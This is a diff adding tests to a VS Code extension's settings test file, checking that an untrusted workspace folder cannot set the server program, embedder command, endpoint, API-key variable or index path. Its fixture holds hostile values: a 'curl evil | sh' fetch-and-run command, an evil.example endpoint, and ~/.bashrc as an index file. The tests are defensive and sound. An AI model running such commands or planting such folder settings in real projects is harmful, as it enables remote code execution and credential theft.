@@ -5,7 +5,17 @@ import { strict as assert } from 'assert';
 import * as fs from 'fs';
 import * as path from 'path';
 import { test } from 'node:test';
-import { SettingsSource, removedSettings, resolveUserPath, serverCommand, toServerSettings } from '../src/settings';
+import {
+  InspectableSource,
+  RESTRICTED_SETTINGS,
+  SettingValues,
+  SettingsSource,
+  removedSettings,
+  resolveUserPath,
+  serverCommand,
+  toServerSettings,
+  trustedSource,
+} from '../src/settings';
 import { EXTENSION_DIR } from './textmate';
 
 const manifest = JSON.parse(fs.readFileSync(path.join(EXTENSION_DIR, 'package.json'), 'utf8'));
@@ -169,4 +179,92 @@ test('clearing a setting is a removed path (the extension restarts the server fo
   assert.deepEqual(removedSettings(before, changed), []);
   assert.deepEqual(removedSettings(before, cleared).sort(), ['similarity.duplicateThreshold', 'similarity.embedder.model']);
   assert.deepEqual(removedSettings(cleared, before), []);
+});
+
+/**
+ * A configuration with VS Code's layers: the contributed defaults, the user's settings and
+ * the folder's (`.vscode/settings.json`), the folder's winning, as `get` and `inspect` see them.
+ */
+function layered(user: Record<string, unknown>, folder: Record<string, unknown>): InspectableSource {
+  return {
+    get(key: string) {
+      if (key in folder) return folder[key];
+      if (key in user) return user[key];
+      return contributed[`kgls.${key}`]?.default;
+    },
+    inspect(key: string): SettingValues {
+      return { defaultValue: contributed[`kgls.${key}`]?.default, globalValue: user[key], workspaceValue: folder[key] };
+    },
+  };
+}
+
+test('an untrusted folder cannot choose the program, the embedder command, the endpoint, the key or the index file', () => {
+  const folder = {
+    path: './evil/kgls',
+    'embedder.kind': 'command',
+    'embedder.command': ['sh', '-c', 'curl evil | sh'],
+    'embedder.url': 'http://evil.example/v1/embeddings',
+    'embedder.apiKeyEnv': 'OPENAI_API_KEY',
+    'index.path': '~/.bashrc',
+    'duplicates.threshold': 0.9,
+  };
+  const trusted = trustedSource(layered({}, folder), true);
+  assert.deepEqual(trusted.ignored, []);
+  assert.deepEqual(serverCommand(trusted.source, ctx), { command: '/ws/evil/kgls', args: ['serve'] });
+  assert.deepEqual(toServerSettings(trusted.source, ctx).settings.kgls.similarity.embedder.command, ['sh', '-c', 'curl evil | sh']);
+
+  const untrusted = trustedSource(layered({}, folder), false);
+  assert.deepEqual(untrusted.ignored.sort(), [
+    'kgls.embedder.apiKeyEnv',
+    'kgls.embedder.command',
+    'kgls.embedder.url',
+    'kgls.index.path',
+    'kgls.path',
+  ]);
+  assert.deepEqual(serverCommand(untrusted.source, ctx), { command: 'kgls', args: ['serve'] });
+  const { settings, problems } = toServerSettings(untrusted.source, ctx);
+  // The folder's kind stays (it runs nothing by itself); with no command it falls back to builtin.
+  assert.deepEqual(settings.kgls.similarity.embedder, { kind: 'builtin' });
+  assert.equal(settings.kgls.index, undefined);
+  assert.equal(settings.kgls.similarity.duplicateThreshold, 0.9);  // Harmless settings still count.
+  assert.equal(problems.length, 1);
+  assert.match(problems[0], /kgls\.embedder\.command is not a program/);
+  // An http kind from the folder gets neither the folder's address nor its key variable.
+  const http = trustedSource(layered({}, { ...folder, 'embedder.kind': 'http' }), false);
+  assert.deepEqual(toServerSettings(http.source, ctx).settings.kgls.similarity.embedder, { kind: 'builtin' });
+  assert.ok(!JSON.stringify(toServerSettings(http.source, ctx).settings).includes('evil'));
+});
+
+test("in an untrusted folder the user's own values of the restricted settings still count", () => {
+  const user = {
+    path: '/opt/kgls/bin/kgls',
+    'embedder.kind': 'http',
+    'embedder.url': 'http://127.0.0.1:11434/v1/embeddings',
+    'embedder.apiKeyEnv': 'MY_KEY',
+    'index.path': '/home/me/kg.sqlite',
+  };
+  const { source, ignored } = trustedSource(layered(user, { path: '/tmp/other', 'embedder.url': 'http://evil/' }), false);
+  assert.deepEqual(ignored.sort(), ['kgls.embedder.url', 'kgls.path']);
+  assert.deepEqual(serverCommand(source, ctx), { command: '/opt/kgls/bin/kgls', args: ['serve'] });
+  assert.deepEqual(toServerSettings(source, ctx).settings, {
+    kgls: {
+      similarity: { embedder: { kind: 'http', url: 'http://127.0.0.1:11434/v1/embeddings', apiKeyEnv: 'MY_KEY' } },
+      index: { path: '/home/me/kg.sqlite' },
+    },
+  });
+  // Nothing set anywhere: nothing is ignored, and the defaults apply.
+  assert.deepEqual(trustedSource(layered({}, {}), false).ignored, []);
+});
+
+test('package.json restricts exactly the settings the extension ignores in untrusted folders', () => {
+  const untrusted = manifest.capabilities?.untrustedWorkspaces;
+  assert.equal(untrusted?.supported, 'limited');
+  assert.ok(typeof untrusted.description === 'string' && untrusted.description.length > 30);
+  assert.deepEqual([...untrusted.restrictedConfigurations].sort(), RESTRICTED_SETTINGS.map((k) => `kgls.${k}`).sort());
+  for (const key of untrusted.restrictedConfigurations) assert.ok(key in contributed, `${key} is not a contributed setting`);
+  // Every setting a folder may override per machine is a program or a file: it must be restricted.
+  const properties: Record<string, { scope?: string }> = manifest.contributes.configuration.properties;
+  for (const [key, schema] of Object.entries(properties)) {
+    if (schema.scope === 'machine-overridable') assert.ok(untrusted.restrictedConfigurations.includes(key), `${key} is not restricted`);
+  }
 });
